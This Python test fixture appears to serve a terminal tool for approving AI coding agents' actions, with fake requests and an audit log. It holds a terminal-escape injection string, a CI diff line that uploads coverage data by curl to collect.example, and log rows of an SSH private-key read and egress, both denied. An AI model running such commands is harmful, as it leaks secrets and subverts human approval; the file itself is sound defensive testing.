"""A room on a fake host, with a clock that the test turns, and a log to look at."""

from __future__ import annotations

import asyncio
import json
import sqlite3
from collections.abc import AsyncIterator, Callable, Sequence
from contextlib import asynccontextmanager, closing
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any

from textual import events
from textual.keys import key_to_character
from textual.pilot import Pilot

from tests.kit import views
from tests.kit.fake_control import FakeControl
from vaultroom.audit import schema
from vaultroom.control.protocol import Control, Dossier, RequestView, State
from vaultroom.errors import HostUnavailable
from vaultroom.tui.app import RoomApp
from vaultroom.tui.screens.room import RoomScreen

OTHER = "01J00000000000000000000001"
THIRD = "01J00000000000000000000002"
HOSTILE = "a\x1b]52;c;ZXZpbA==\x07b\x1b[2J\x1b[Hc\x9b31md\u202ee\rf\x08g\u200bh[bold]i[/]j\x7fk"


@dataclass
class Clock:
    """Seconds that pass only when the test says so."""

    now: float = 1000.0

    def __call__(self) -> float:
        return self.now

    def pass_(self, seconds: float) -> None:
        self.now += seconds


@dataclass
class Bench:
    """What a test holds."""

    app: RoomApp
    control: FakeControl
    pilot: Pilot[int]
    clock: Clock
    started: list[tuple[str, str]] = field(default_factory=list)

    @property
    def screen(self) -> RoomScreen:
        screen = self.app._room_screen()
        assert screen is not None
        return screen

    async def settle(self, times: int = 3) -> None:
        """Let timers run and the screen be painted; the clock stands still."""
        for _ in range(times):
            await asyncio.sleep(0.06)

    async def arm(self) -> None:
        """Let the card be seen, and wait as long as it takes."""
        await self.until(lambda: self.screen.deck.current is None or self.app.guard.on_screen, "the card")
        self.clock.pass_(0.5)
        await self.settle(1)

    async def tap(self, *keys: str) -> None:
        """Keys as the terminal sends them, the clock standing still."""
        for key in keys:
            presses = self.app.guard.presses
            self.app.post_message(events.Key(key, key_to_character(key)))
            await self.until(lambda before=presses: self.app.guard.presses > before, key)  # type: ignore[misc]
            await asyncio.sleep(0.01)

    async def press(self, *keys: str) -> None:
        """Each key on its own, with half a second before it and time for what it does."""
        for key in keys:
            self.clock.pass_(0.5)
            await self.tap(key)
            await asyncio.sleep(0.1)
        await self.until(self._commands_done, "the commands' ends")
        await self.settle(2)

    def _commands_done(self) -> bool:
        return all(worker.is_finished for worker in self.app.workers if worker.group != "output")

    async def until(self, holds: Callable[[], bool], what: str) -> None:
        """Wait for something that another thread does."""
        for _ in range(1000):
            if holds():
                return
            await asyncio.sleep(0.005)
        raise AssertionError(f"never came: {what}")


@asynccontextmanager
async def room(
    state: State | None = None,
    *,
    size: tuple[int, int] = (80, 24),
    control: FakeControl | None = None,
    rejoin: Callable[[], Control] | None = None,
    **options: Any,
) -> AsyncIterator[Bench]:
    """An open room that has drawn its first state."""
    control = control or FakeControl(shown=state or views.state())
    clock = Clock()
    started: list[tuple[str, str]] = []

    def start_agent(command_line: str, agent: str) -> str:
        started.append((command_line, agent))
        return views.SESSION_ID

    options = {"attached": False, "start_agent": start_agent, **options}
    app = RoomApp(control, rejoin=rejoin or no_host, monotonic=clock, **options)
    async with app.run_test(size=size) as pilot:
        bench = Bench(app, control, pilot, clock, started)
        await bench.settle()
        yield bench


def no_host() -> Control:
    raise HostUnavailable("no host answers")


def request(number: int, act: str = "", **changes: Any) -> RequestView:
    """One of several waiting requests; `act` is its command."""
    base = views.request_view()
    act = act or f"$ git push origin branch-{number}"
    card_changes = changes.pop("card", {})
    view_id = f"01J0000000000000000000R{number:03d}"
    card = {**base.card, "id": view_id, "shown": f"{number:064x}", "act": act, **card_changes}
    card["remembers"] = card_changes.get(
        "remembers", [f"{act} — exactly this, under rule git-push-ask, until this session ends"]
    )
    return replace(base, **{"id": view_id, "summary": act, "card": card, **changes})


def busy_state(audit_db: str = "") -> State:
    """Three agents, three waiting requests, two grants: a working day."""
    base = views.state()
    delete = request(
        1,
        "$ cd build && rm -rf ./out ./cache && npm run clean -- --all",
        rule="deletes-ask",
        seconds_left=41.0,
        card={
            "rule": "deletes-ask (line 31)",
            "message": "Deletes below the project are asked about.",
            "waiters": 3,
            "asks": ["delete /home/dev/proj/build/out and everything below it — rule deletes-ask"],
            "rule_text": '- name: "deletes-ask"\n  match: {action: [fs.delete], path: ["./**"]}\n'
            "  effect: require_approval",
        },
        dossier=Dossier(
            facets=(
                "delete /home/dev/proj/build/out: require_approval by deletes-ask",
                "delete /home/dev/proj/build/cache: require_approval by deletes-ask",
                "shell.exec npm run clean: allow by everyday-tools",
            ),
            removal=replace(
                views.removal(),
                sample=("/home/dev/proj/build/out/app.js", "/home/dev/proj/build/out/app.js.map"),
            ),
            chain=("rm (4250)", "bash (4245)", "claude (4242)"),
            deliveries=("telegram: delivered",),
        ),
    )
    publish = request(
        2,
        "$ npm publish --access public",
        agent="codex",
        session=OTHER,
        rule="publish-ask",
        seconds_left=52.0,
    )
    write = request(
        3,
        "write /home/dev/proj/.github/workflows/ci.yml",
        action="fs.write",
        rule="ci-ask",
        seconds_left=58.0,
        dossier=Dossier(
            facets=("fs.write /home/dev/proj/.github/workflows/ci.yml: require_approval by ci-ask",),
            difference=(
                "--- a/.github/workflows/ci.yml",
                "+++ b/.github/workflows/ci.yml",
                "@@ -12,3 +12,4 @@",
                "       - run: npm ci",
                "-      - run: npm test",
                "+      - run: npm test -- --coverage",
                "+      - run: curl -T coverage.json https://collect.example",
            ),
        ),
    )
    sessions = (
        views.session_view(waiting=2, asked=7, allowed=412),
        views.session_view(
            id=OTHER,
            agent="codex",
            command=("codex", "exec", "write the release notes"),
            state="frozen",
            allowed=88,
            denied=0,
            asked=1,
            per_minute=0,
            waiting=1,
        ),
        views.session_view(
            id=THIRD,
            agent="gemini",
            command=("gemini", "--yolo"),
            allowed=9,
            denied=31,
            asked=0,
            per_minute=64,
            waiting=0,
            launched=True,
        ),
    )
    grants = (
        replace(base.grants[0], label="$ npm test in /home/dev/proj — exactly this, under rule npm-ask"),
        replace(
            base.grants[0],
            id="01J0000000000000000000000H",
            label="everything that this session asks, for 15 min",
            rule="",
            window=True,
            seconds_left=612.0,
            hits=0,
        ),
    )
    host = replace(base.host, audit_db=audit_db, surfaces=("tui", "telegram"), head="1046:9f86d081884c7d65")
    return replace(base, host=host, sessions=sessions, requests=(delete, publish, write), grants=grants)


_DAY: Sequence[tuple[str, str, dict[str, Any], str, str | None]] = (
    ("shell.exec", "shim", {"cmd": "git", "raw": "git status --short"}, "allow", "everyday-tools"),
    ("fs.read", "hook", {"path": "/home/dev/proj/src/app.ts"}, "allow", "workdir-is-free"),
    ("shell.exec", "shim", {"cmd": "npm", "raw": "npm test -- --watch=false"}, "allow", "everyday-tools"),
    ("net.egress", "egress", {"host": "packages.example", "port": 443}, "allow", None),
    ("fs.write", "hook", {"path": "/home/dev/proj/src/app.ts"}, "allow", "workdir-is-free"),
    ("fs.read", "hook", {"path": "/home/dev/.ssh/id_ed25519"}, "deny", "builtin:keys"),
    ("net.egress", "egress", {"host": "collect.example", "port": 443}, "deny", "unknown-hosts"),
    (
        "mcp.tool",
        "mcp",
        {"server": "github", "tool": "create_issue", "tool_args": {"title": "CI"}},
        "allow",
        None,
    ),
    ("shell.exec", "shim", {"cmd": "git", "raw": "git push origin main"}, "require_approval", "git-push-ask"),
)


class LogFile:
    """A log in the real schema, written without the writer."""

    def __init__(self, path: Path) -> None:
        self.path = path
        self._connection = sqlite3.connect(path, isolation_level=None, check_same_thread=False)
        for statement in (*schema.PRAGMAS, *schema.DDL):
            self._connection.execute(statement)
        self._connection.execute("PRAGMA synchronous = OFF")
        self.seqs: dict[str, int] = {}
        self._number = 0
        for session, agent in ((views.SESSION_ID, "claude"), (OTHER, "codex"), (THIRD, "gemini")):
            self._connection.execute(
                "INSERT INTO sessions(id, started_at, agent_name, agent_command, policy_hash) "
                "VALUES (?, '2026-01-31T12:00:00.000000000Z', ?, '[]', 'ab')",
                (session, agent),
            )

    def close(self) -> None:
        self._connection.close()

    def day(self, rounds: int = 3) -> None:
        """Some rows of everything."""
        self.add("session.open", "vaultroom", {"record": {"agent_command": ["claude", "-p", "fix"]}}, "allow")
        for number in range(rounds):
            for action, source, members, verdict, rule in _DAY:
                session = (views.SESSION_ID, THIRD)[number % 2]
                event = self.add(action, source, members, verdict, rule, session=session)
                if verdict == "require_approval":
                    self.outcome(event, session)

    def outcome(self, event: str, session: str) -> None:
        payload = {"event_id": event, "record": {"state": "allowed_once"}}
        self.add(
            "shell.exec", "shim", payload, "require_approval", "git-push-ask", session=session, final="allow"
        )

    def add(
        self,
        action: str,
        source: str,
        members: dict[str, Any],
        verdict: str,
        rule: str | None = None,
        *,
        session: str = views.SESSION_ID,
        final: str | None = None,
    ) -> str:
        self.many([(action, source, members, verdict, rule, session, final)])
        return f"E{self._number:025d}"

    def many(self, rows: Sequence[tuple[Any, ...]]) -> None:
        """Rows in one transaction."""
        self._connection.execute("BEGIN")
        for action, source, members, verdict, rule, session, final in rows:
            self._number += 1
            seq = self.seqs[session] = self.seqs.get(session, 0) + 1
            seconds = self._number % 60
            self._connection.execute(
                f"INSERT INTO events({', '.join(schema.EVENT_COLUMNS)}) VALUES ({', '.join('?' * 15)})",
                (
                    f"E{self._number:025d}",
                    session,
                    f"2026-01-31T12:{self._number // 60 % 60:02d}:{seconds:02d}.000000000Z",
                    seq,
                    source,
                    action,
                    json.dumps(members),
                    rule,
                    verdict,
                    final,
                    "tui" if final else None,
                    3100 if final else None,
                    40,
                    b"\0" * 32,
                    b"\0" * 32,
                ),
            )
        self._connection.execute("COMMIT")


@asynccontextmanager
async def log_file(path: Path) -> AsyncIterator[LogFile]:
    with closing(LogFile(path)) as log:
        yield log
